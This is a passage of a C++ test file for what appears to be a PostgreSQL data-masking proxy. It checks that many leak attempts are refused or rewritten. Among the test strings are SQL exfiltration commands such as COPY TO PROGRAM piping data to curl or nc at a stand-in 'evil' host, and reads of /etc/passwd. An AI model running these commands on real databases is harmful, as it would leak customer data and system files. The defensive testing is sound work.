      refused_for_both(sql, "deny:encoding", "client_encoding");
    }
  }
  // A bare word, and names PostgreSQL does not know: not guessed at.
  refused_for_both("SET client_encoding TO sjis", "deny:encoding", "client_encoding");
  refused_for_both("SET client_encoding = 'klingon'", "deny:encoding", "client_encoding");
  refused_for_both("SET client_encoding = 'SJIS', 'UTF8'", "deny:encoding", "client_encoding");
  // ASCII-safe encodings read the same; RESET returns to the start value,
  // which the relay has vetted.
  for (const char* sql :
       {"SET client_encoding = 'UTF8'", "SET NAMES 'utf-8'", "SET client_encoding = 'LATIN1'",
        "SET client_encoding TO 'EUC_JP'", "SET client_encoding = 'WIN1252'", "RESET client_encoding",
        "SET client_encoding TO DEFAULT", "RESET ALL"}) {
    expect_passed(support(), sql);
    expect_passed(analyst(), sql);
  }
}

TEST_F(MaskingThreatsTest, ParserDifferentials_StringSyntaxAndServerTraces) {
  for (const char* sql : {"SET backslash_quote = on", "SET backslash_quote TO safe_encoding",
                          "RESET backslash_quote", "SET standard_conforming_strings = 'o'"}) {
    refused_for_both(sql, "deny:string-syntax", "");
  }
  // DEBUG and LOG messages describe the rewritten statement (with the
  // masking keys) or how hidden values sort.
  for (const char* sql :
       {"SET client_min_messages = debug2", "SET client_min_messages TO 'DEBUG5'",
        "SET client_min_messages = log", "SET LOCAL client_min_messages = debug",
        "SET client_min_messages = 'debug1'", "SET trace_sort = on", "SET trace_locks TO true",
        "SET TRACE_SORT = 1", "SET debug_pretty_print = off", "SET debug_print_rewritten = on",
        "SET debug_print_plan TO 1", "SET debug_discard_caches = 0"}) {
    refused_for_both(sql, "deny:debug-output", "setting");
  }
  refused_for_both("SET log_statement = 'all'", "deny:setting", "log_statement");
  refused_for_both("SET log_min_messages = debug5", "deny:setting", "log_min_messages");
  for (const char* sql :
       {"SET client_min_messages = warning", "SET client_min_messages TO notice", "RESET client_min_messages",
        "SET escape_string_warning = off", "SET search_path = public", "SET statement_timeout = 1000"}) {
    expect_passed(support(), sql);
  }
}

TEST_F(MaskingThreatsTest, ParserDifferentials_ExplainInAnyNesting) {
  // EXPLAIN of a prepared (rewritten) statement shows the masking
  // expressions and their keys, however it is reached.
  for (const char* sql : {
           "EXPLAIN EXECUTE p",
           "EXPLAIN (VERBOSE) EXECUTE p(1)",
           "EXPLAIN (VERBOSE) CREATE TEMP TABLE x AS EXECUTE p",
           "EXPLAIN ANALYZE CREATE TABLE x AS EXECUTE p (1, 'a')",
           "explain verbose select 1; EXPLAIN CREATE TABLE x AS EXECUTE p",
       }) {
    refused_for_both(sql, "deny:explain", "EXPLAIN");
  }
  expect_passed(support(), "EXPLAIN SELECT 1");
}

// Identifier truncation to a protected name needs a protected relation whose
// name is 63 bytes long: the shop config plus one such table.
class LongNameTest : public ::testing::Test {
 protected:
  static constexpr std::string_view long_name =
      "customer_archive_with_a_name_exactly_sixty_three_bytes_long_xyz";
  void SetUp() override {
    ASSERT_EQ(long_name.size(), 63U);
    auto cat = testing::shop_catalog();
    cat->relations.push_back(testing::relation(16500, "public", std::string(long_name), 'r',
                                               {{"id", "bigint"}, {"secret", "text"}}));
    cat->finalize();
    std::string yaml(testing::shop_masking_yaml);
    const std::string anchor = "  protected_columns:\n";
    yaml.insert(yaml.find(anchor) + anchor.size(),
                "    - {column: public." + std::string(long_name) + ".secret, category: free_text}\n");
    protection_ = testing::protection_from(yaml, cat);
    support_ = std::make_unique<SessionPolicy>(protection_, "support");
  }
  std::shared_ptr<const Protection> protection_;
  std::unique_ptr<SessionPolicy> support_;
};

TEST_F(LongNameTest, Class09_IdentifierTruncatedToProtectedName) {
  for (const std::string& tail : {std::string("_and_more"), std::string(200, 'z'), std::string("\xc3\xa9")}) {
    for (const std::string& sql :
         {"SELECT secret FROM " + std::string(long_name) + tail,
          "SELECT secret FROM \"" + std::string(long_name) + tail + "\" t WHERE t.secret LIKE 'a%'",
          "SELECT x.secret FROM public." + std::string(long_name) + tail + " AS x"}) {
      SCOPED_TRACE(sql);
      auto d = analyze_statement(sql, *support_);
      ASSERT_EQ(d.action, Action::rewrite) << describe(d);
      EXPECT_EQ(d.relations, std::vector<std::string>{"public." + std::string(long_name)});
      auto tree = ParseTree::parse(d.sql);
      ASSERT_TRUE(tree.ok()) << d.sql;
      std::vector<Site> sites;
      collect_range_vars(&(*tree)->result().stmts[0]->stmt->base, nullptr, "", sites);
      int wrapped = 0;
      for (const auto& s : sites) {
        if (std::string(s.rv->relname) != long_name) continue;
        ASSERT_TRUE(is(s.owner, pg_query__select_stmt__descriptor)) << d.sql;
        const auto* sel = reinterpret_cast<const PgQuery__SelectStmt*>(s.owner);
        ASSERT_EQ(sel->n_target_list, 2U) << d.sql;
        EXPECT_NE(sel->target_list[1]->res_target->val->node_case, PG_QUERY__NODE__NODE_COLUMN_REF) << d.sql;
        ++wrapped;
      }
      EXPECT_EQ(wrapped, 1) << d.sql;
    }
  }
}

// 10. Server-side copies.
TEST_F(MaskingThreatsTest, Class10_ServerSideCopies) {
  // The copy holds masked values, so reading it later reveals nothing.
  for (const char* sql : {
           "CREATE TABLE cp AS SELECT * FROM customer_contacts",
           "CREATE TEMP TABLE cp AS TABLE payments",
           "CREATE UNLOGGED TABLE cp (a, b) AS SELECT id, email FROM customers",
           "SELECT email, phone INTO cp FROM customers",
           "SELECT * INTO TEMP cp FROM payments_2025_01",
           "INSERT INTO orders (id, status) SELECT id, email FROM customers",
           "INSERT INTO orders (id, status) SELECT id, card_number FROM payments WHERE amount > 10",
       }) {
    rewritten_for_both(sql);
  }
  expect_rewritten(support(), "CREATE TABLE cp AS WITH x AS (SELECT * FROM customers) SELECT email FROM x");
  expect_passed(support(), "SELECT * FROM cp");
  refused_for_both("CREATE VIEW v AS SELECT * FROM customers", "deny:create-view", "view");
  refused_for_both("CREATE OR REPLACE TEMP VIEW v AS SELECT email FROM customers", "deny:create-view",
                   "view");
  refused_for_both("CREATE VIEW v AS SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers)",
                   "deny:create-view", "view");
  refused_for_both("CREATE RECURSIVE VIEW v (id) AS SELECT id FROM payments", "deny:create-view", "view");
  refused_for_both("CREATE MATERIALIZED VIEW mv AS SELECT email FROM customers", "deny:create-view",
                   "materialized view");
  refused_for_both("CREATE MATERIALIZED VIEW mv AS TABLE customer_contacts WITH NO DATA", "deny:create-view",
                   "materialized view");
  // Creating tables shaped like a protected one names it in a non-read
  // position: refused (conservative; no data is copied).
  refused_for_both("CREATE TABLE cp (LIKE customers)", "deny:protected-object", "public.customers");
  refused_for_both("CREATE TABLE cp () INHERITS (customers)", "deny:protected-object", "public.customers");
  expect_refused(analyst(), "CREATE TABLE cp AS SELECT * FROM customers", "deny:column", "ssn");
  expect_refused(analyst(), "INSERT INTO orders (id, status) SELECT id, ssn FROM customers", "deny:column",
                 "ssn");
  // Views over unprotected tables are fine.
  expect_passed(support(), "CREATE VIEW v AS SELECT id, status FROM orders");
}

// 11. Views, functions and procedures.
TEST_F(MaskingThreatsTest, Class11_ViewsFunctionsProcedures) {
  for (const char* sql : {
           "SELECT * FROM customer_contacts",
           "SELECT email FROM customer_contacts WHERE email LIKE 'a%'",
           "SELECT phone, count(*) FROM customer_contacts GROUP BY phone",
           "SELECT id FROM contact_labels",
           "SELECT c.id FROM contact_labels c JOIN orders o ON o.customer_id = c.id",
       }) {
    rewritten_for_both(sql);
  }
  // contact_labels.label is computed from protected columns: refused.
  refused_for_both("SELECT label FROM contact_labels", "deny:column", "label");
  refused_for_both("SELECT * FROM contact_labels", "deny:column", "label");
  refused_for_both("SELECT id FROM contact_labels WHERE label LIKE 'a%'", "deny:column", "label");
  refused_for_both("SELECT l FROM contact_labels l", "deny:column", "label");
  // User-defined functions may read the table with their owner's rights.
  refused_for_both("SELECT leak_customers()", "deny:function", "leak_customers");
  refused_for_both("SELECT * FROM leak_customers()", "deny:function", "leak_customers");
  refused_for_both("SELECT public.leak_customers()", "deny:function", "public.leak_customers");
  refused_for_both("SELECT id FROM orders WHERE leak_customers() IS NOT NULL", "deny:function",
                   "leak_customers");
  refused_for_both("CALL leak_customers()", "deny:function", "leak_customers");
  refused_for_both("SELECT pgcloak.get_auth('admin')", "deny:function", "get_auth");
  // Attribute notation calls a function of the row: o.f is f(o).
  refused_for_both("SELECT o.leak_customers FROM orders o", "deny:function", "leak_customers");
  refused_for_both("SELECT (o).leak_customers FROM orders o", "deny:function", "leak_customers");
  refused_for_both("SELECT id FROM customers c WHERE c.leak_customers IS NOT NULL", "deny:function",
                   "leak_customers");
  // Built-ins that run SQL given as a string, or read tables by name.
  refused_for_both("SELECT query_to_xml('select * from customers', true, true, '')", "deny:function",
                   "query_to_xml");
  refused_for_both("SELECT query_to_xml_and_xmlschema('select 1', true, true, '')", "deny:function",
                   "query_to_xml_and_xmlschema");
  refused_for_both("SELECT pg_catalog.query_to_xml('select email from cust' || 'omers', true, true, '')",
                   "deny:function", "query_to_xml");
  refused_for_both("SELECT cursor_to_xml('c', 10, true, true, '')", "deny:function", "cursor_to_xml");
  refused_for_both("SELECT table_to_xml('customers', true, true, '')", "deny:function", "table_to_xml");
  refused_for_both("SELECT schema_to_xml('public', true, true, '')", "deny:function", "schema_to_xml");
  refused_for_both("SELECT database_to_xml(true, true, '')", "deny:function", "database_to_xml");
  refused_for_both("SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM customers')", "deny:function",
                   "ts_stat");
  refused_for_both("SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, email::tsquery FROM customers')",
                   "deny:function", "ts_rewrite");
  refused_for_both(
      "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, quote_literal(email)::tsquery FROM cust' || "
      "'omers')",
      "deny:function", "ts_rewrite");
  refused_for_both("SELECT * FROM dblink('dbname=shop', 'select email from customers') AS t(e text)",
                   "deny:function", "dblink");
  refused_for_both("SELECT dblink_exec('dbname=shop', 'select 1')", "deny:function", "dblink_exec");
  // postgres_fdw is dblink by another name: a foreign table over the real
  // table reads it on a connection pgcloak never sees.
  refused_for_both("IMPORT FOREIGN SCHEMA public FROM SERVER loopback INTO mine", "deny:foreign-data",
                   "foreign");
  refused_for_both(
      "CREATE FOREIGN TABLE ft (id bigint, email text) SERVER loopback OPTIONS (table_name 'customers')",
      "deny:foreign-data", "foreign");
  refused_for_both("CREATE SERVER loopback FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'shop')",
                   "deny:foreign-data", "foreign");
  refused_for_both("CREATE USER MAPPING FOR CURRENT_USER SERVER loopback OPTIONS (user 'admin')",
                   "deny:foreign-data", "foreign");
  // Defining code that runs later is refused.
  refused_for_both(
      "CREATE FUNCTION f() RETURNS SETOF customers LANGUAGE sql SECURITY DEFINER AS 'SELECT * "
      "FROM customers'",
      "deny:function-ddl", "functions");
  refused_for_both("CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'", "deny:function-ddl", "procedures");
  refused_for_both("CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()",
                   "deny:code-ddl", "triggers");
  refused_for_both("CREATE RULE r AS ON SELECT TO orders DO INSTEAD SELECT * FROM customers", "deny:code-ddl",
                   "rules");
  refused_for_both("CREATE OPERATOR === (LEFTARG = text, RIGHTARG = text, FUNCTION = texteq)",
                   "deny:code-ddl", "operators");
}

// 12. COPY.
TEST_F(MaskingThreatsTest, Class12_Copy) {
  for (const char* sql : {
           "COPY customers TO STDOUT",
           "COPY customers (id, email) TO STDOUT",
           "COPY public.customers (email, phone) TO STDOUT WITH (FORMAT csv, HEADER)",
           "COPY (SELECT email FROM customers) TO STDOUT",
           "COPY (SELECT c.email, o.amount FROM customers c JOIN orders o ON o.customer_id = c.id) TO STDOUT",
           "COPY customers TO STDOUT (FORMAT binary)",
           "COPY customers TO STDOUT WITH BINARY",
           "COPY payments_2025_01 (card_number) TO STDOUT",
           "COPY \"customers\" (\"email\") TO STDOUT",
       }) {
    expect_rewritten(support(), sql);
  }
  for (const char* sql : {
           "COPY customers (id, email) TO STDOUT",
           "COPY (SELECT email FROM customers) TO STDOUT (FORMAT binary)",
           "COPY payments_2025_01 TO STDOUT",
       }) {
    expect_rewritten(analyst(), sql);
  }
  // COPY out of a partitioned table or a view is refused by PostgreSQL
  // itself (42809, no data): pgcloak leaves it to PostgreSQL, so the client
  // gets the same error as directly.
  expect_passed(support(), "COPY payments TO STDOUT");
  expect_passed(support(), "COPY customer_contacts TO STDOUT");
  expect_passed(analyst(), "COPY payments TO STDOUT");
  // COPY tbl TO reads the table alone, as PostgreSQL does: no children.
  EXPECT_NE(analyze_statement("COPY customers (id) TO STDOUT", *support_).sql.find("FROM ONLY customers"),
            std::string::npos);
  expect_refused(analyst(), "COPY customers TO STDOUT", "deny:column", "ssn");
  expect_refused(analyst(), "COPY customers (id, ssn) TO STDOUT", "deny:column", "ssn");
  expect_refused(analyst(), "COPY (SELECT ssn FROM customers) TO STDOUT", "deny:column", "ssn");
  refused_for_both("COPY contact_labels TO STDOUT", "deny:column", "label");
  // Files and programs bypass the client connection: refused, protected or not.
  refused_for_both("COPY customers TO '/tmp/x'", "deny:copy-file", "COPY to or from a server file");
  refused_for_both("COPY customers (email) TO PROGRAM 'curl -d @- http://evil'", "deny:copy-file",
                   "COPY to or from a server file");
  refused_for_both("COPY (SELECT email FROM customers) TO '/tmp/x' (FORMAT binary)", "deny:copy-file",
                   "server file");
  refused_for_both("COPY orders TO '/tmp/o'", "deny:copy-file", "server file");
  refused_for_both("COPY orders FROM PROGRAM 'cat /etc/passwd'", "deny:copy-file", "program");
  // COPY FROM writes without reading.
  expect_passed(support(), "COPY customers (id, email) FROM STDIN");
  expect_passed(analyst(), "COPY customers FROM STDIN WITH (FORMAT csv)");
}

// 13. Writes that read.
TEST_F(MaskingThreatsTest, Class13_WritesThatRead) {
  const std::string_view dml = "deny:dml-reads-protected";
  for (const SessionPolicy* p : {&support(), &analyst()}) {
    expect_refused(*p, "UPDATE customers SET notes = 'x' WHERE id = 1 RETURNING email", dml, "email");
    expect_refused(*p, "DELETE FROM customers WHERE id = 1 RETURNING *", dml, "*");
    expect_refused(*p, "DELETE FROM customers WHERE id = 1 RETURNING customers", dml, "customers");
    expect_refused(*p, "DELETE FROM customers c WHERE id = 1 RETURNING row_to_json(c)", dml,
                   "public.customers");
    expect_refused(
        *p,
        "INSERT INTO customers (id, email) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET address = "
        "'x' RETURNING email",
        dml, "email");
    expect_refused(*p,
                   "INSERT INTO customers (id, email) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET "
                   "full_name = customers.email",
                   dml, "email");
    expect_refused(*p,
                   "INSERT INTO customers AS c (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET address = 'x' "
                   "WHERE c.phone LIKE '+1%'",
                   dml, "phone");
    // The conflict arbiter tests the stored value: whether the row is
    // inserted says whether the guess exists.
    expect_refused(*p,
                   "INSERT INTO customers (id, email) VALUES (999, 'guess@example.com') ON CONFLICT (email) "
                   "DO NOTHING",
                   dml, "email");
    expect_refused(*p, "UPDATE customers SET notes = email", dml, "email");
    expect_refused(*p, "UPDATE customers SET address = phone WHERE id = 1", dml, "phone");
    expect_refused(*p, "UPDATE customers SET (address, notes) = (SELECT card_number, 'x') WHERE id = 1", dml,
                   "card_number");
    expect_refused(*p, "UPDATE customers SET address = 'x' WHERE email LIKE 'a%'", dml, "email");
    expect_refused(*p, "UPDATE customers SET address = 'x' WHERE ssn = '123-45-6789'", dml, "ssn");
    expect_refused(*p, "DELETE FROM customers WHERE card_number LIKE '4%'", dml, "card_number");
    expect_refused(*p, "UPDATE customers c SET address = 'x' WHERE c::text LIKE '%@%'", dml,
                   "public.customers");
    expect_refused(*p, "UPDATE customers SET address = 'x' WHERE email(customers) LIKE 'a%'", dml,
                   "public.customers");
    expect_refused(*p, "UPDATE customers SET address = 'x' WHERE (customers.*)::text LIKE '%a%'", dml, "*");
    expect_refused(*p, "UPDATE payments SET amount = 0 WHERE card_number LIKE '4%'", dml, "card_number");
    expect_refused(*p, "DELETE FROM payments_2025_01 WHERE card_number > '5'", dml, "card_number");
    expect_refused(*p, "UPDATE customer_contacts SET full_name = 'x' WHERE phone LIKE '%1'", dml, "phone");
    // Writes nested where dml_target does not look (CTEs, PREPARE) name the
    // protected table in a non-read position: refused.
    expect_refused(
        *p, "WITH d AS (DELETE FROM customers WHERE email LIKE 'a%' RETURNING id) SELECT count(*) FROM d",
        "deny:protected-object", "public.customers");
    expect_refused(*p, "WITH u AS (UPDATE customers SET notes = 'x' RETURNING *) SELECT * FROM u",
                   "deny:protected-object", "public.customers");
    // MERGE joins and tests values: refused when it involves protected data.
    expect_refused(
        *p,
        "MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN UPDATE SET "
        "status = c.email",
        "deny:merge", "MERGE");
    expect_refused(
        *p,
        "MERGE INTO customers c USING orders o ON o.customer_id = c.id WHEN MATCHED AND c.email LIKE "
        "'a%' THEN DELETE",
        "deny:merge", "MERGE");
    // Writing other tables while reading protected ones: the read is wrapped.
    expect_rewritten(*p,
                     "UPDATE orders SET status = 'x' FROM customers c WHERE c.id = orders.customer_id AND "
                     "c.email LIKE 'a%'");
    expect_rewritten(*p,
                     "UPDATE orders SET status = c.email FROM customers c WHERE c.id = orders.customer_id");
    expect_rewritten(*p,
                     "DELETE FROM orders USING payments p WHERE p.customer_id = orders.customer_id AND "
                     "p.card_number LIKE '4%' RETURNING p.card_number");
    expect_rewritten(*p,
                     "UPDATE orders SET status = 'x' WHERE customer_id IN (SELECT id FROM customers WHERE "
                     "phone LIKE '+1%') RETURNING id");
    // Writes that read nothing protected pass.
    expect_passed(*p, "INSERT INTO customers (id, email) VALUES (1, 'a@b.c')");
    expect_passed(*p, "UPDATE customers SET email = 'x' WHERE id = 1");
    expect_passed(*p, "DELETE FROM customers WHERE id = 1 RETURNING id");
    expect_passed(*p,
                  "INSERT INTO customers (id, email) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET email = "
                  "excluded.email");
  }
  // Masked values copied into the protected table itself: the read is
  // wrapped, the target is only written.
  {
    auto d = analyze_statement("INSERT INTO customers (id, email) SELECT id + 1000, email FROM customers",
                               support());
    ASSERT_EQ(d.action, Action::rewrite) << describe(d);
    expect_only_masked_reads(d.sql, support(), /*allow_write_target=*/true);
  }
  // support may read full_name unmasked, so writes may test it.
  expect_passed(support(), "UPDATE customers SET notes = 'x' WHERE full_name = 'Alice'");
  expect_refused(analyst(), "UPDATE customers SET notes = 'x' WHERE full_name = 'Alice'", dml, "full_name");
  // Deliberately conservative (false refusals): card_number here is
  // payments', but any column named like a hidden column of the target
  // counts as a read of the target; and for analytics any * in a statement
  // that reads customers counts as reading the denied ssn.
  expect_refused(support(),
                 "UPDATE customers SET notes = 'x' WHERE id IN (SELECT customer_id FROM payments WHERE "
                 "card_number IS NULL)",
                 dml, "card_number");
  expect_rewritten(
      support(),
      "UPDATE orders SET status = 'x' WHERE customer_id IN (SELECT id FROM customers) RETURNING *");
  expect_refused(analyst(),
                 "UPDATE orders SET status = 'x' WHERE customer_id IN (SELECT id FROM customers) RETURNING *",
                 "deny:column", "through *");
}

// 14. Extended protocol, at the SQL level (Parse/Bind/Execute, pipelines
// and Describe are handled in proxy/relay_loop.cc, which sends each Parse
// through analyze_statement like a Query).
TEST_F(MaskingThreatsTest, Class14_PrepareExecuteCursors) {
  for (const char* sql : {
           "PREPARE p AS SELECT email FROM customers WHERE id = $1",
           "PREPARE p (text) AS SELECT id FROM customers WHERE email = $1",
           "PREPARE p AS SELECT card_number FROM payments WHERE card_number LIKE $1 || '%'",
           "DECLARE c CURSOR FOR SELECT email FROM customers",
           "DECLARE c BINARY CURSOR WITH HOLD FOR SELECT card_number FROM payments ORDER BY card_number",
           "DECLARE c SCROLL CURSOR FOR TABLE customer_contacts",
           "BEGIN; DECLARE c CURSOR FOR SELECT phone FROM customers; FETCH 10 FROM c",
       }) {
    rewritten_for_both(sql);
  }
  // Parameters are kept as they were.
  {
    auto d = analyze_statement("SELECT id FROM customers WHERE email = $1 AND phone = $2", support());
    ASSERT_EQ(d.action, Action::rewrite) << describe(d);
    EXPECT_NE(d.sql.find("WHERE email = $1 AND phone = $2"), std::string::npos) << d.sql;
    expect_only_masked_reads(d.sql, support());
  }
  refused_for_both("PREPARE p AS UPDATE customers SET notes = 'x' WHERE email = $1", "deny:protected-object",
                   "public.customers");
  refused_for_both("PREPARE p AS DELETE FROM customers WHERE id = $1 RETURNING email",
                   "deny:protected-object", "public.customers");
  expect_refused(analyst(), "PREPARE p AS SELECT ssn FROM customers", "deny:column", "ssn");
  expect_refused(analyst(), "DECLARE c CURSOR FOR SELECT * FROM customers", "deny:column", "ssn");
  // Running what was prepared or declared names nothing.
  expect_passed(support(), "EXECUTE p(1)");
  expect_passed(support(), "FETCH ALL FROM c");
}

// 15. Fast-path FunctionCall messages carry no SQL text: proxy/relay_loop.cc
// refuses the message for masked sessions. rules/ decides only the SQL
// spellings of the same calls.
TEST_F(MaskingThreatsTest, Class15_FastPathFunctionCallIsAProxyConcern) {
  refused_for_both("SELECT lo_export(16401, '/tmp/x')", "deny:function", "lo_export");
  refused_for_both("SELECT lo_get(16401)", "deny:function", "lo_get");
  refused_for_both("SELECT pg_catalog.pg_read_file('/etc/passwd')", "deny:function", "pg_read_file");
}

// 16. Identity switching.
TEST_F(MaskingThreatsTest, Class16_IdentitySwitching) {
  const std::string_view rule = "deny:set-role";
  for (const char* sql : {
           "SET ROLE admin",
           "SET LOCAL ROLE admin",
           "SET SESSION ROLE admin",
           "RESET ROLE",
           "SET ROLE NONE",
           "SET SESSION AUTHORIZATION admin",
           "SET SESSION AUTHORIZATION DEFAULT",
           "RESET SESSION AUTHORIZATION",
           "SET role = 'admin'",
           "SET role TO admin",
           "SET \"role\" TO admin",
           // GUC names are case-insensitive in PostgreSQL.
           "SET \"ROLE\" TO admin",
           "SET LOCAL \"Role\" = 'admin'",
           "SET \"Session_Authorization\" = 'admin'",
           "RESET \"ROLE\"",
           "SELECT 1; SET ROLE admin",
       }) {
    refused_for_both(sql, rule, "SET ROLE");
  }
  refused_for_both("SELECT set_config('role', 'admin', false)", "deny:function", "set_config");
  refused_for_both("SELECT pg_catalog.set_config('session_authorization', 'admin', true)", "deny:function",
                   "set_config");
  refused_for_both("ALTER ROLE analyst SET role = 'admin'", "deny:identity", "roles");
  refused_for_both("GRANT admin TO analyst", "deny:identity", "roles");
  refused_for_both("ALTER GROUP data_admins ADD USER analyst", "deny:identity", "roles");
  refused_for_both("CREATE USER x IN GROUP data_admins", "deny:identity", "roles");
  refused_for_both("ALTER SYSTEM SET role = 'admin'", "deny:identity", "roles");
  refused_for_both("ALTER DATABASE shop SET role = 'admin'", "deny:identity", "settings");
  refused_for_both("CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
                   "deny:function-ddl", "functions");
  refused_for_both("ALTER FUNCTION f() SECURITY DEFINER", "deny:function-ddl", "functions");
  // Other settings are the session's own business.
  expect_passed(support(), "SET search_path = public");
  expect_passed(support(), "SET statement_timeout = '5s'");
}

// 17. Catalog and statistics leaks, and the statement text (which holds the
// masking expressions and their HMAC keys).
TEST_F(MaskingThreatsTest, Class17_CatalogAndStatistics) {
  const std::string_view stats = "deny:statistics";
  refused_for_both("SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers'", stats, "pg_stats");
  refused_for_both("SELECT * FROM pg_catalog.pg_statistic", stats, "pg_statistic");
  refused_for_both("SELECT * FROM pg_statistic_ext_data", stats, "pg_statistic_ext_data");
  refused_for_both("SELECT * FROM pg_stats_ext", stats, "pg_stats_ext");
  refused_for_both("SELECT * FROM pg_stats_ext_exprs", stats, "pg_stats_ext_exprs");
  refused_for_both("SELECT query FROM pg_stat_statements", stats, "pg_stat_statements");
  refused_for_both("SELECT query FROM public.pg_stat_statements WHERE query LIKE '%email%'", stats,
                   "pg_stat_statements");
  refused_for_both("SELECT query FROM pg_stat_activity", stats, "pg_stat_activity");
  refused_for_both("SELECT * FROM pg_stat_get_activity(NULL)", "deny:function", "pg_stat_get_activity");
  refused_for_both("SELECT pg_stat_statements_reset()", "deny:function", "pg_stat_statements_reset");
  // Plans show estimates and timings that depend on hidden values.
  const std::string_view explain = "deny:explain";
  refused_for_both("EXPLAIN SELECT * FROM customers WHERE email = 'x'", explain, "EXPLAIN");
  refused_for_both("EXPLAIN ANALYZE SELECT count(*) FROM customers WHERE email LIKE 'a%'", explain,
                   "EXPLAIN");
  refused_for_both("EXPLAIN (ANALYZE, FORMAT json) SELECT * FROM orders o JOIN payments p ON p.id = o.id",
                   explain, "EXPLAIN");
  refused_for_both("EXPLAIN CREATE TABLE cp AS SELECT * FROM customer_contacts", explain, "EXPLAIN");
  refused_for_both("EXPLAIN UPDATE orders SET status = 'x' FROM customers c WHERE c.email LIKE 'a%'", explain,
                   "EXPLAIN");
  // A prepared statement's plan holds the masking expressions it was
  // rewritten with, HMAC pads included: pgcloak cannot tell what p reads.
  refused_for_both("EXPLAIN (VERBOSE) EXECUTE p('a%')", explain, "EXPLAIN");
  refused_for_both("EXPLAIN ANALYZE EXECUTE p", explain, "EXPLAIN");
  // The session's own rewritten statements hold the masking expressions
  // and their HMAC pads (with which hashed values can be brute-forced).
  refused_for_both("SELECT current_query() FROM customers", "deny:function", "current_query");
  refused_for_both("SELECT current_query()", "deny:function", "current_query");
  refused_for_both("SELECT statement FROM pg_prepared_statements", stats, "pg_prepared_statements");
  refused_for_both("SELECT statement FROM pg_catalog.pg_cursors", stats, "pg_cursors");
  refused_for_both("SELECT * FROM pg_prepared_statement()", "deny:function", "pg_prepared_statement");
  refused_for_both("SELECT * FROM pg_cursor()", "deny:function", "pg_cursor");
  refused_for_both("SET debug_print_plan = on", "deny:debug-output", "debug_print_plan");
  refused_for_both("SET SESSION debug_print_parse TO true", "deny:debug-output", "debug_print_parse");
  refused_for_both("SET \"DEBUG_PRINT_REWRITTEN\" = on", "deny:debug-output", "debug_print_rewritten");
  // Harmless: EXPLAIN over unprotected tables, and the public catalog.
  expect_passed(support(), "EXPLAIN SELECT * FROM orders WHERE status = 'paid'");
  expect_passed(support(), "SELECT relname FROM pg_class WHERE relname = 'orders'");
}

// 18. Timing and side effects.
TEST_F(MaskingThreatsTest, Class18_TimingAndSideEffects) {
  refused_for_both("SELECT CASE WHEN email LIKE 'a%' THEN pg_sleep(1) END FROM customers", "deny:function",
                   "pg_sleep");
  refused_for_both("SELECT pg_sleep_for('1 second') FROM customers WHERE ssn LIKE '1%'", "deny:function",
                   "pg_sleep_for");
  refused_for_both("SELECT pg_sleep_until(now() + interval '1 s')", "deny:function", "pg_sleep_until");
  refused_for_both("SELECT pg_catalog.pg_sleep(1)", "deny:function", "pg_sleep");
  // Side effects built from the value see the masked value.
  for (const char* sql : {
           "SELECT pg_advisory_lock(length(email)) FROM customers",
           "SELECT pg_try_advisory_xact_lock(hashtext(phone)) FROM customers",
           "SELECT nextval('s') FROM customers WHERE email LIKE 'a%'",
           "SELECT setval('s', length(card_number)) FROM payments",
           "SELECT pg_notify('c', email) FROM customers",
           "SELECT pg_notify('c', card_number) FROM payments_2025_01 WHERE id = 1",
       }) {
    rewritten_for_both(sql);
  }
}

// 19. Large objects and files.
TEST_F(MaskingThreatsTest, Class19_LargeObjectsAndFiles) {
  refused_for_both("SELECT lo_import('/etc/passwd')", "deny:function", "lo_import");
  refused_for_both("SELECT lo_from_bytea(0, convert_to(email, 'UTF8')) FROM customers", "deny:function",
                   "lo_from_bytea");
  refused_for_both("SELECT lo_get(16401, 0, 100)", "deny:function", "lo_get");
  refused_for_both("SELECT loread(lo_open(16401, 262144), 100)", "deny:function", "lo");
  refused_for_both("SELECT * FROM pg_largeobject", "deny:statistics", "pg_largeobject");
  refused_for_both("SELECT pg_read_file('/etc/passwd')", "deny:function", "pg_read_file");
  refused_for_both("SELECT pg_read_binary_file('base/16384/16400')", "deny:function", "pg_read_binary_file");
  refused_for_both("SELECT * FROM pg_ls_dir('.')", "deny:function", "pg_ls_dir");
  refused_for_both("SELECT * FROM pg_ls_waldir()", "deny:function", "pg_ls_waldir");
  refused_for_both("SELECT pg_stat_file('postgresql.conf')", "deny:function", "pg_stat_file");
  refused_for_both("COPY customers TO PROGRAM 'nc evil 9'", "deny:copy-file", "program");
  refused_for_both("COPY (SELECT 1) TO PROGRAM 'id'", "deny:copy-file", "program");
}

// 20. Replication connections, protocol versions and SSL/GSS negotiation
// tricks happen before any SQL exists: proxy/session.cc refuses replication
// startup parameters and bytes buffered after SSLRequest/GSSENCRequest,
// and protocol/ decodes only protocol 3.0. Nothing for rules/ to decide.
TEST_F(MaskingThreatsTest, Class20_ProtocolSideDoorsAreAProxyConcern) {
  // Replication commands are not SQL: for a masked session they do not
  // parse, so they are refused.
  expect_refused(support(), "START_REPLICATION SLOT s LOGICAL 0/0 (customers)", "parse", "could not parse");
  expect_refused(support(), "BASE_BACKUP (customers)", "parse", "could not parse");
  GTEST_SKIP() << "replication connections and SSL/GSS negotiation are enforced in proxy/session.cc";
}

// What legitimate analysts must still be able to do: never refused.
TEST_F(MaskingThreatsTest, LegitimateAnalystQueries) {
  for (const char* sql : {
           "SELECT count(*) FROM orders",
           "SELECT status, count(*), sum(amount) FROM orders GROUP BY status",
           "SELECT id, amount FROM orders WHERE status = 'paid' ORDER BY id LIMIT 50",
           "SELECT date_trunc('month', created_at), avg(amount) FROM orders GROUP BY 1 ORDER BY 1",
       }) {
    expect_passed(support(), sql);
    expect_passed(analyst(), sql);
  }
  for (const char* sql : {
           "SELECT count(*) FROM customers",
